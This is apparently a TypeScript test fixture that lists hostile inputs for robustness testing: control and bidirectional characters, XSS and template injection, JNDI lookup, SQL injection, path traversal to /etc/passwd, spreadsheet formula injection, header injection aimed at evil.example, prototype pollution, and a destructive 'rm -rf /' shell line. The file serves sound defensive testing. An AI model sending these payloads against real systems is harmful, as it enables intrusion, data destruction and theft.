// Texts that have broken programs before: each is legal somewhere, and each means something to some other program.

/** A text in which nothing else occurs, so that an answer that repeats it is found out. */
export const marker = 'Zq7kXw'

/** Short hostile texts, by what they try. */
export const hostileStrings: readonly string[] = [
  // characters that end, hide or reorder text
  '\u0000',
  `a\u0000${marker}`,
  '\u0001\u0002\u0008',
  '\u001b[31mred\u001b[0m',
  '\u007f\u0085\u009f',
  '\t\u000b\u000c',
  `first\nsecond ${marker}`,
  `ada\r\nBcc: ${marker}@evil.example`,
  `%0d%0aSet-Cookie: ${marker}=1`,
  `\u202egpj.${marker}\u202c`,
  '\u2066\u2067\u2068\u2069\u200e\u200f\u061c',
  '\ufeff\u2028\u2029\u00ad\u200b\u3164',
  '\ufffe\uffff\u{1fffe}\ufdd0',
  `\ud800${marker}`,
  `${marker}\udfff`,
  '\ud83d',
  'Z̸̢̧̛̛̗̘̙̜̝̞̟̠A̵̡̢̛̗̘̙̜̝̞̟̠L̶̡̢̛̗̘̙̜̝̞̟̠G̷̡̢̛̗̘̙̜̝̞̟̠Ơ̸̡̢̗̘̙̜̝̞̟̠',
  '\u0301\u0301\u0301',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿👩🏽',
  '﷽'.repeat(20),
  'e\u0301 \u212b \u1e9b\u0323',
  // markup, templates, scripts
  `<script>alert('${marker}')</script>`,
  `"><img src=x onerror=alert('${marker}')>`,
  `' autofocus onfocus='alert("${marker}")`,
  `</textarea></select></form><form action="https://evil.example/${marker}">`,
  `<!-- ${marker} --!> <![CDATA[ ]]>`,
  `&lt;script&gt;&#x3c;${marker}&amp;`,
  `javascript:alert('${marker}')`,
  `data:text/html;base64,PHNjcmlwdD4=${marker}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what somebody types who tries out templates
  '${7*7} {{7*7}} #{7*7} <%= 7*7 %> ${jndi:ldap://127.0.0.1/a}',
  // queries, paths, formats, spreadsheets, shells
  `Robert'); DROP TABLE Channel;-- ${marker}`,
  "' or '1'='1",
  "x' or PartitionKey ne '",
  `../../../../etc/passwd#${marker}`,
  '..\\..\\windows\\system32\\CON',
  '%s%s%n%x %00 %ff %c0%ae',
  `=cmd|' /C calc'!A0 ${marker}`,
  '@SUM(1+1)*cmd',
  '; rm -rf / # $(id) `id`',
  '/#?&=+\\|^~[]{}',
  // words that mean something to a language
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e999',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  // addresses
  `http://user:pass@evil.example/${marker}`,
  `https://evil.example\\@good.example/${marker}`,
  'https://\u0430pple.example/\u202e',
  `"ada roth ${marker}"@evil.example`,
  `ada@evil.example,bob@evil.example;${marker}@x`,
  'ada@[127.0.0.1]',
  'ada@localhost',
  'a@b.example%0aCc:x@evil.example',
  // length
  'x'.repeat(10_000),
  '💩'.repeat(5000),
  '\u0301'.repeat(10_000),
  ' '.repeat(10_000),
  `${' '.repeat(5000)}x`,
  'a@'.repeat(5000),
  'www.'.repeat(2500),
  '+'.repeat(9999),
  '1 '.repeat(5000),
]

/**
 * Those that are tried in one of many places: each place meets a quarter of them and the next one another quarter, so that
 * each meets every kind of place; with HOSTILE_STRINGS=all, as among the proofs, every place meets all.
 */
export const inPlace = <T>(strings: readonly T[], place: number): readonly T[] =>
  process.env['HOSTILE_STRINGS'] === 'all' ? strings : strings.filter((_, at) => (at + place) % 4 === 0)

/** Values that are no text at all. */
export const hostileValues: readonly unknown[] = [
  0,
  -0.5,
  1e308,
  true,
  false,
  [],
  {},
  [[]],
  [marker],
  { [marker]: 1 },
  { toString: 1, valueOf: 1, length: 9 },
  { constructor: { prototype: { polluted: marker } } },
]

/** JSON nested so deep that a program that walks it by calling itself ends. */
export const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`

/** Whether an answer repeats what was sent. Texts that occur in any answer prove nothing. */
export const repeats = (answer: string, sent: string): boolean => {
  if (answer.includes(marker)) return true
  const piece = sent.slice(0, 200)
  return piece.trim().length > 5 && !/^(undefined|constructor)$/.test(piece) && answer.includes(piece)
}
